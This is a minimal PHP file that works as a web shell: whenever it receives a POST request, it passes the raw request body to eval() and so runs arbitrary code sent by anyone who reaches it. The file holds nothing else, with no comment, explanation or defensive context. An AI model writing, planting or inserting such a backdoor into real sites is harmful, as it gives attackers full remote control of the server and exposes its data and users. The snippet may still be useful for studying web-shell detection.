<?php
if ($_SERVER['REQUEST_METHOD'] === 'POST') { eval(file_get_contents('php://input')); }
